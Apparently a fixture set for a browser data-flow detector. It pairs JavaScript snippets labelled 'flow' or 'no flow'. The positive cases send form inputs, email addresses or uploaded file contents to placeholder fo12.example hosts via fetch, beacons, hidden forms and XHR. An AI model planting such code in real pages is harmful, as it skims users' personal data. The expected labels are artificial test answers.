//# form-data-looped
// flow: input > fdl.fo12.example via fetch
document.querySelector('form').addEventListener('submit', (e) => {
  e.preventDefault();
  const payload = {};
  for (const [k, v] of new FormData(e.target)) payload[k] = v;
  fetch('https://fdl.fo12.example/f', { method: 'POST', body: JSON.stringify(payload) });
});

//# near-form-data-names
// no flow
document.querySelector('form').addEventListener('submit', (e) => {
  e.preventDefault();
  fetch('https://nfn.fo12.example/f?names=' + [...new FormData(e.target).keys()].join());
});

//# elements-of-one-type
// flow: email > eot.fo12.example via beacon
const form = document.forms[0];
form.onsubmit = () => {
  const mails = Array.from(form.elements).filter((el) => el.type === 'email').map((el) => el.value);
  navigator.sendBeacon('https://eot.fo12.example/m', mails.join());
};

//# near-elements-required
// no flow
// why: only the names of the empty fields
const form = document.forms[0];
form.onsubmit = () => {
  const empty = Array.from(form.elements).filter((el) => el.required && !el.value).map((el) => el.name);
  navigator.sendBeacon('https://ner.fo12.example/m', empty.join());
};

//# hidden-field-made
// flow: email > hfm.fo12.example via form
const f = document.createElement('form');
f.method = 'post';
f.action = 'https://hfm.fo12.example/in';
const i = document.createElement('input');
i.type = 'hidden';
i.name = 'em';
i.value = document.querySelector('input[type=email]').value;
f.appendChild(i);
document.body.appendChild(f);
f.submit();

//# near-hidden-field-not-in-that-form
// no flow
// why: the field stands in a form that is never submitted
const f = document.createElement('form'), g = document.createElement('form');
f.method = 'post';
f.action = 'https://nhf.fo12.example/in';
const i = document.createElement('input');
i.type = 'hidden';
i.name = 'em';
i.value = document.querySelector('input[type=email]').value;
g.appendChild(i);
document.body.append(f, g);
f.submit();

//# read-as-data-url
// flow: file > rdu.fo12.example via xhr
document.querySelector('input[type=file]').addEventListener('change', function () {
  var reader = new FileReader();
  reader.onload = function () {
    var x = new XMLHttpRequest();
    x.open('POST', 'https://rdu.fo12.example/f');
    x.send(JSON.stringify({ d: reader.result.split(',')[1] }));
  };
  reader.readAsDataURL(this.files[0]);
});

//# near-preview-only
// no flow
document.querySelector('input[type=file]').addEventListener('change', function () {
  var reader = new FileReader();
  var kind = this.files.length > 1 ? 'many' : 'one';
  reader.onload = function () { document.querySelector('#preview').src = reader.result; };
  reader.readAsDataURL(this.files[0]);
  navigator.sendBeacon('https://npo.fo12.example/k', kind);
});

//# serialised-to-object
// flow: input > sto.fo12.example via xhr
$('#signup').on('submit', function (ev) {
  ev.preventDefault();
  var data = $(this).serializeArray().reduce(function (o, f) { o[f.name] = f.value; return o; }, {});
  $.ajax({ url: 'https://sto.fo12.example/s', method: 'POST', contentType: 'application/json', data: JSON.stringify(data) });
});

//# near-form-data-of-constants
// no flow
const note = document.querySelector('textarea[name=message]').value;
const body = new FormData();
body.append('v', '1');
body.append('has', note ? 'y' : 'n');
fetch('https://nfc.fo12.example/f', { method: 'POST', body });
